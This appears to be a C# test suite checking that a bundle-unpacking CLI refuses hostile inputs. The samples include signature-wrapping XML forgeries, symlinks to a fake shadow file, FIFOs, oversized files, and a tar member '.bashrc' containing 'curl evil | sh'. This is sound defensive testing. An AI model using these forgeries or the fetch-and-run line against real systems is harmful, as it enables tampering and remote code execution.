using System.Diagnostics;
using BundleCluster.Format.Manifest;
using BundleCluster.TestSupport;

namespace BundleCluster.Cli.Tests.Hostile;

/// <summary>
/// unbundle and verify against bundles, manifests, parts and key files made by an attacker or a careless user: each
/// is refused with one line and the right exit code, quickly, and nothing is left in the destination.
/// </summary>
public sealed class HostileBundleTests(HostileBundleFixture bundle) : IClassFixture<HostileBundleFixture>, IDisposable
{
    private readonly TempDirectory _dir = new("hostile-case");

    private TestIdentity User => bundle.User;

    private async Task<BundleCtlRunner.Outcome> VerifyAsync(string manifest, params string[] more) =>
        await Refusal.RunAsync(["verify", "-m", manifest, "-k", User.PrivateKeyPath, .. more]);

    private async Task<(BundleCtlRunner.Outcome Run, string Restored)> UnbundleAsync(string manifest, params string[] more)
    {
        string restored = Directory.CreateDirectory(Path.Combine(_dir.Path, "restored-" + Guid.NewGuid().ToString("N")[..6])).FullName;
        return (await Refusal.RunAsync(["unbundle", "-m", manifest, "-k", User.PrivateKeyPath, "-d", restored, .. more]), restored);
    }

    private string Copy() => bundle.CopyBundle(_dir.Sub("b-" + Guid.NewGuid().ToString("N")[..6]));

    [Theory]
    [InlineData("comment", "<!--{0}-->", "contains a comment")]
    [InlineData("processing instruction", "<?hidden {0}?>", "processing instruction")]
    public async Task A_signed_copy_hidden_before_forged_elements_does_not_verify(string _, string wrapper, string expected)
    {
        // The attack: keep the genuine signature, hide the genuine signed text where a first-match verifier finds it,
        // and put the attacker's own <machine_configuration> and <image> where the parser reads the values from.
        string manifest = Copy();
        string genuine = File.ReadAllText(manifest);
        string signedMc = Cut(genuine, "machine_configuration");
        string signedImage = Cut(genuine, "image");
        string forged = genuine.Replace(signedMc + signedImage,
            string.Format(System.Globalization.CultureInfo.InvariantCulture, wrapper, signedMc + signedImage)
            + signedMc.Replace("x86_64", "i386") + signedImage);
        File.WriteAllText(manifest, forged);

        BundleCtlRunner.Outcome run = await VerifyAsync(manifest, "-c", User.CertificatePath);

        Refusal.Assert(run, 254, expected);
    }

    [Fact]
    public async Task A_signed_copy_in_a_CDATA_section_does_not_verify()
    {
        string manifest = Copy();
        string genuine = File.ReadAllText(manifest);
        string signed = Cut(genuine, "machine_configuration") + Cut(genuine, "image");
        File.WriteAllText(manifest, genuine.Replace("<release>", $"<release><![CDATA[{signed}]]>"));

        Refusal.Assert(await VerifyAsync(manifest, "-c", User.CertificatePath), 254, "CDATA");
    }

    [Fact]
    public async Task Forged_elements_after_the_genuine_signature_fail_the_signature_check()
    {
        string manifest = Copy();
        File.WriteAllText(manifest, File.ReadAllText(manifest).Replace("<architecture>x86_64</architecture>", "<architecture>i386</architecture>"));

        Refusal.Assert(await VerifyAsync(manifest, "-c", User.CertificatePath), 254, "signature does not verify");
    }

    [Theory]
    [InlineData("fifo")]
    [InlineData("dev-zero")]
    public async Task A_part_that_is_not_a_regular_file_is_refused_at_once(string kind)
    {
        string manifest = Copy();
        string part = Path.Combine(Path.GetDirectoryName(manifest)!, "h.img.part.1");
        File.Delete(part);
        if (kind == "fifo")
        {
            ExternalTool.Bash($"mkfifo '{part}'");
        }
        else
        {
            File.CreateSymbolicLink(part, "/dev/zero");
        }

        (BundleCtlRunner.Outcome run, string restored) = await UnbundleAsync(manifest);

        Refusal.Assert(run, 1, kind == "fifo" ? "is a FIFO" : "is a character device");
        Refusal.NothingIn(restored);
    }

    [Fact]
    public async Task A_manifest_that_is_a_FIFO_is_refused_at_once()
    {
        string fifo = _dir.File("m.xml");
        ExternalTool.Bash($"mkfifo '{fifo}'");

        Refusal.Assert(await VerifyAsync(fifo), 1, "manifest '" + fifo + "' is a FIFO");
    }

    [Fact]
    public async Task A_part_linked_inside_the_source_directory_is_followed()
    {
        string manifest = Copy();
        string directory = Path.GetDirectoryName(manifest)!;
        File.Move(Path.Combine(directory, "h.img.part.0"), Path.Combine(directory, "stored-elsewhere.bin"));
        File.CreateSymbolicLink(Path.Combine(directory, "h.img.part.0"), "stored-elsewhere.bin");

        BundleCtlRunner.Outcome run = await VerifyAsync(manifest, "-c", User.CertificatePath);

        Assert.True(run.ExitCode == 0, run.StdErr);
    }

    [Fact]
    public async Task A_part_linked_to_a_file_outside_the_source_directory_is_not_read()
    {
        string manifest = Copy();
        string secret = _dir.File("shadow");
        File.WriteAllText(secret, "root:$6$secret:19000:0:99999:7:::\n");
        string part = Path.Combine(Path.GetDirectoryName(manifest)!, "h.img.part.1");
        File.Delete(part);
        File.CreateSymbolicLink(part, secret);

        (BundleCtlRunner.Outcome run, string restored) = await UnbundleAsync(manifest);

        Refusal.Assert(run, 254, "symbolic link to a file outside");
        Assert.DoesNotContain(Convert.ToHexStringLower(System.Security.Cryptography.SHA1.HashData(File.ReadAllBytes(secret))), run.StdErr);
        Refusal.NothingIn(restored);
    }

    [Fact]
    public async Task One_part_file_listed_under_many_indices_is_refused()
    {
        string manifest = Copy();
        File.WriteAllText(manifest, File.ReadAllText(manifest).Replace("h.img.part.1<", "h.img.part.0<"));

        Refusal.Assert(await VerifyAsync(manifest), 254, "part file 'h.img.part.0' is listed more than once");
    }

    [Theory]
    [InlineData("missing trailer", 254)]
    [InlineData("trailing garbage", 254)]
    [InlineData("extra padding block", 254)]
    public async Task A_gzip_layer_that_gunzip_refuses_is_refused(string defect, int exitCode)
    {
        BundleForgery forgery = BundleForgery.Open(Path.Combine(bundle.Bundle, "h.img.manifest.xml"), User);
        string directory = _dir.Sub("forged-" + defect.Replace(' ', '-'));
        byte[] gzip = defect switch
        {
            "missing trailer" => forgery.Gzip[..^8],
            "trailing garbage" => [.. forgery.Gzip, .. "garbage!"u8.ToArray()],
            _ => forgery.Gzip,
        };
        string manifest = forgery.Write(directory, gzip, User, extraPaddingBlock: defect == "extra padding block");

        (BundleCtlRunner.Outcome run, string restored) = await UnbundleAsync(manifest, "-c", User.CertificatePath);

        Refusal.Assert(run, exitCode, "gzip");
        Refusal.NothingIn(restored);
    }

    [Fact]
    public async Task The_genuine_layers_rewritten_unchanged_still_restore()
    {
        // The forgery tool itself must not be what breaks the bundles above.
        BundleForgery forgery = BundleForgery.Open(Path.Combine(bundle.Bundle, "h.img.manifest.xml"), User);
        string manifest = forgery.Write(_dir.Sub("unchanged"), forgery.Gzip, User);

        (BundleCtlRunner.Outcome run, string restored) = await UnbundleAsync(manifest, "-c", User.CertificatePath);

        Assert.True(run.ExitCode == 0, run.StdErr);
        Assert.True(TestImages.SameContent(bundle.Image, Path.Combine(restored, "h.img")));
    }

    [Fact]
    public async Task A_tar_member_named_other_than_the_manifest_image_is_not_written()
    {
        // A bundle whose manifest says "h.img" but whose tar member is ".bashrc": unbundling into a home directory
        // must not plant a shell start-up file.
        BundleForgery forgery = BundleForgery.Open(Path.Combine(bundle.Bundle, "h.img.manifest.xml"), User);
        string staging = _dir.Sub("member");
        File.WriteAllText(Path.Combine(staging, ".bashrc"), "curl evil | sh\n");
        byte[] tar = File.ReadAllBytes(ExternalTool.Bash($"cd '{staging}' && tar --format=gnu --owner=0 --group=0 -cf ../evil.tar .bashrc && echo '{_dir.File("evil.tar")}'").Trim());
        string manifest = forgery.Write(_dir.Sub("forged-member"), BundleForgery.GzipOf(tar), User,
            image => image with { Size = 15 }, tarForDigest: tar);

        (BundleCtlRunner.Outcome run, string restored) = await UnbundleAsync(manifest, "-c", User.CertificatePath);

        Refusal.Assert(run, 254, "the tar member is named '.bashrc' but the manifest's image is 'h.img'");
        Refusal.NothingIn(restored);
    }

    [Theory]
    [InlineData("4611686018427387904")] // 2^62
    [InlineData("9223372036854775807")] // 2^63-1
    public async Task An_absurd_image_size_is_one_clear_line(string size)
    {
        string manifest = Copy();
        string text = File.ReadAllText(manifest);
        string declared = text[(text.IndexOf("<size>", StringComparison.Ordinal) + 6)..text.IndexOf("</size>", StringComparison.Ordinal)];
        File.WriteAllText(manifest, text.Replace($"<size>{declared}</size>", $"<size>{size}</size>"));

        (BundleCtlRunner.Outcome run, string restored) = await UnbundleAsync(manifest);

        Refusal.Assert(run, 254, "more than");
        Refusal.NothingIn(restored);
    }

    [Fact]
    public async Task A_part_count_of_two_billion_is_one_clear_line()
    {
        string manifest = Copy();
        File.WriteAllText(manifest, File.ReadAllText(manifest).Replace("<parts count='3'>", "<parts count='2147483647'>"));

        Refusal.Assert(await VerifyAsync(manifest), 254, "<parts count='2147483647'> but the manifest lists 3 parts");
    }

    [Fact]
    public async Task An_existing_file_in_the_destination_is_kept_unless_overwrite_is_given()
    {
        string manifest = Path.Combine(bundle.Bundle, "h.img.manifest.xml");
        string restored = _dir.Sub("existing");
        File.WriteAllText(Path.Combine(restored, "h.img"), "precious");

        BundleCtlRunner.Outcome refused = await Refusal.RunAsync("unbundle", "-m", manifest, "-k", User.PrivateKeyPath, "-d", restored);
        string kept = File.ReadAllText(Path.Combine(restored, "h.img"));
        BundleCtlRunner.Outcome replaced = await Refusal.RunAsync("unbundle", "-m", manifest, "-k", User.PrivateKeyPath, "-d", restored, "--overwrite");

        Refusal.Assert(refused, 1, "already exists; remove it or pass --overwrite");
        Assert.Equal("precious", kept);
        Assert.True(replaced.ExitCode == 0, replaced.StdErr);
        Assert.True(TestImages.SameContent(bundle.Image, Path.Combine(restored, "h.img")));
    }

    [Fact]
    public async Task A_destination_that_is_a_file_says_so()
    {
        string file = _dir.File("not-a-dir");
        File.WriteAllText(file, "x");

        BundleCtlRunner.Outcome run = await Refusal.RunAsync("unbundle", "-m", Path.Combine(bundle.Bundle, "h.img.manifest.xml"), "-k", User.PrivateKeyPath, "-d", file);

        Refusal.Assert(run, 1, "is a file, not a directory");
    }

    [Fact]
    public async Task A_huge_manifest_is_refused_before_it_is_read()
    {
        string huge = _dir.File("huge.manifest.xml");
        using (var file = File.Create(huge))
        {
            file.SetLength(1L << 30); // sparse: a gigabyte that costs no disk
        }

        BundleCtlRunner.Outcome run = await VerifyAsync(huge);

        Refusal.Assert(run, 254, $"more than the {ManifestReader.MaxBytes} bytes");
    }

    [Fact]
    public async Task Deeply_nested_elements_are_refused_in_linear_time()
    {
        // 200,000 nested elements (1.4 MB) once took minutes: the depth is bounded while reading.
        string manifest = _dir.File("deep.manifest.xml");
        var text = new System.Text.StringBuilder("<?xml version='1.0'?><manifest>");
        for (int i = 0; i < 200_000; i++)
        {
            text.Append("<a>");
        }

        File.WriteAllText(manifest, text.ToString());
        var clock = Stopwatch.StartNew();

        BundleCtlRunner.Outcome run = await VerifyAsync(manifest);

        Refusal.Assert(run, 254, "unexpected element <a> in <manifest>");
        Assert.True(clock.Elapsed < Refusal.Bound);
    }

    [Theory]
    [InlineData("/dev/zero", "is a character device")]
    [InlineData("fifo", "is a FIFO")]
    [InlineData("huge", "more than the 1048576 bytes")]
    public async Task A_private_key_that_is_not_a_small_regular_file_is_refused(string key, string expected)
    {
        if (key == "fifo")
        {
            key = _dir.File("key-fifo");
            ExternalTool.Bash($"mkfifo '{key}'");
        }
        else if (key == "huge")
        {
            key = _dir.File("huge-key.pem");
            using var file = File.Create(key);
            file.SetLength(8L << 30);
        }

        BundleCtlRunner.Outcome run = await Refusal.RunAsync("verify", "-m", Path.Combine(bundle.Bundle, "h.img.manifest.xml"), "-k", key);

        Refusal.Assert(run, 1, expected);
    }

    [Theory]
    [InlineData("manifest")]
    [InlineData("/dev/zero")]
    [InlineData("huge-key")]
    public void Huge_and_endless_inputs_are_refused_in_bounded_memory(string input)
    {
        // The review saw 4.2 GB for a 1 GB manifest and 8.5 GB for -k /dev/zero: a separate process, so its peak
        // resident memory is its own.
        string manifest = Path.Combine(bundle.Bundle, "h.img.manifest.xml");
        string key = User.PrivateKeyPath;
        if (input == "manifest")
        {
            manifest = _dir.File("huge.manifest.xml");
            using var file = File.Create(manifest);
            file.SetLength(1L << 30);
        }
        else if (input == "/dev/zero")
        {
            key = "/dev/zero";
        }
        else
        {
            key = _dir.File("huge-key.pem");
            using var file = File.Create(key);
            file.SetLength(8L << 30);
        }

        BundleCtlMemory.Result run = BundleCtlMemory.Run("verify", "-m", manifest, "-k", key);

        Assert.True(run.ExitCode is 1 or 254, $"exit {run.ExitCode}: {run.StdErr}");
        Assert.Single(run.StdErr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.True(run.PeakBytes < 400L << 20, $"peak resident memory {run.PeakBytes >> 20} MiB");
    }

    private static string Cut(string text, string element)
    {
        int from = text.IndexOf($"<{element}>", StringComparison.Ordinal);
        int to = text.IndexOf($"</{element}>", StringComparison.Ordinal) + element.Length + 3;
        return text[from..to];
    }

    public void Dispose() => _dir.Dispose();
}
